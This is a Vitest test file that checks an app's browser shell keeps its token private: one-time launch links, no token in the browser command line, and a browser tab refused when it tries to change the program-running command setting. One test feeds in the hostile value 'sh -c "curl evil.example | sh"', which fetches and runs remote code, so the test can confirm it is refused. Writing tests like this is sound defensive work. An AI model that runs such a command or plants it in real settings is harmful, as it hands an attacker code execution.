import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { startCompanion } from '../support/companion';
import { startShell } from '../support/shell-process';
import { tempDir } from '../support/tmp';

/** An `xdg-open` that only writes down the command line it was given, the part other users can read in /proc. */
function recordingXdgOpen(): { bin: string; calls: () => string[] } {
  const bin = tempDir();
  const log = path.join(bin, 'calls.txt');
  fs.writeFileSync(path.join(bin, 'xdg-open'), `#!/bin/sh\nprintf '%s\\n' "$*" >> '${log}'\n`, { mode: 0o755 });
  return { bin, calls: () => (fs.existsSync(log) ? fs.readFileSync(log, 'utf8').trim().split('\n').filter(Boolean) : []) };
}

describe('the browser shell’s token stays private', () => {
  it('opens the browser with a one-time launch link, never the token, and the link trades for it once', async () => {
    const opener = recordingXdgOpen();
    const dataDir = path.join(tempDir(), 'data');
    const shell = await startShell(['--data-dir', dataDir], { PATH: `${opener.bin}:${process.env.PATH}` }, { open: true });
    onTestFinished(() => void shell.stop());
    await expect.poll(() => opener.calls().length, { timeout: 10_000 }).toBe(1);
    const [launched = ''] = opener.calls();
    expect(launched).not.toContain(shell.token);
    expect(launched).toMatch(new RegExp(`^${shell.origin}/launch/[A-Za-z0-9_-]{32}$`));

    // Another user of this computer who read the link in /proc cannot trade it (Linux: the connection's owner, from /proc/net/tcp).
    if (process.getuid?.() === 0 && fs.existsSync('/proc/net/tcp')) {
      const status = execFileSync('curl', ['-s', '-o', '/dev/null', '-w', '%{http_code}', launched], { uid: 65534, gid: 65534, encoding: 'utf8' });
      expect(status).toBe('403');
    }
    const first = await fetch(launched, { redirect: 'manual' });
    expect(first.status).toBe(303);
    expect(first.headers.get('location')).toBe(`/#token=${shell.token}`);
    expect(first.headers.get('cache-control')).toBe('no-store');
    const again = await fetch(launched, { redirect: 'manual' });
    expect(again.status).toBe(410);
    expect(await again.text()).toMatch(/used already or has expired/);
  });

  it('refuses, from a browser tab, the setting that makes the app run a program', async () => {
    const dataDir = path.join(tempDir(), 'data');
    const shell = await startShell(['--data-dir', dataDir]);
    onTestFinished(() => void shell.stop());
    const refused = await shell.call('settings.update', { values: { prodigyCommand: 'sh -c "curl evil.example | sh"' }, confirm: { prodigyCommand: 'sh -c "curl evil.example | sh"' } });
    expect(refused).toMatchObject({ ok: false, error: { code: 'SETTING_LOCKED', message: expect.stringContaining('is not changed from a browser tab. Start the app with --prodigy-command') } });
    expect(await shell.call('settings.get')).toMatchObject({ ok: true, value: { values: { prodigyCommand: 'python3 -m prodigy' } } });
    // Other settings still change from the tab.
    expect(await shell.call('settings.update', { values: { syncIntervalMinutes: 5 } })).toMatchObject({ ok: true, value: { values: { syncIntervalMinutes: 5 } } });
  });

  it('takes the command from outside the browser: a flag, shown as set for this run', async () => {
    const dataDir = path.join(tempDir(), 'data');
    const shell = await startShell(['--data-dir', dataDir, '--prodigy-command', '/opt/venv/bin/python -m prodigy']);
    onTestFinished(() => void shell.stop());
    expect(await shell.call('settings.get')).toMatchObject({
      ok: true,
      value: { values: { prodigyCommand: '/opt/venv/bin/python -m prodigy' }, sources: { prodigyCommand: 'flag' }, lockedBy: { prodigyCommand: 'Set by --prodigy-command for this run' } },
    });
  });
});

describe('the setting that runs a program', () => {
  it('changes only when the new command is typed a second time, exactly', async () => {
    const app = await startCompanion(path.join(tempDir(), 'data'));
    const command = '/opt/venv/bin/python -m prodigy';
    expect(await app.raw('settings.update', { values: { prodigyCommand: command } })).toMatchObject({ ok: false, error: { code: 'CONFIRMATION_REQUIRED', message: expect.stringContaining('type the new command a second time') } });
    expect(await app.raw('settings.update', { values: { prodigyCommand: command }, confirm: { prodigyCommand: `${command} ` } })).toMatchObject({ ok: true });
    expect((await app.call('settings.get')).values.prodigyCommand).toBe(command);
    expect(await app.raw('settings.update', { values: { prodigyCommand: 'python3 -m prodigy' }, confirm: { prodigyCommand: 'python3 -m prodigi' } })).toMatchObject({ ok: false, error: { code: 'CONFIRMATION_REQUIRED' } });
    expect((await app.call('settings.get')).values.prodigyCommand).toBe(command);
  });
});
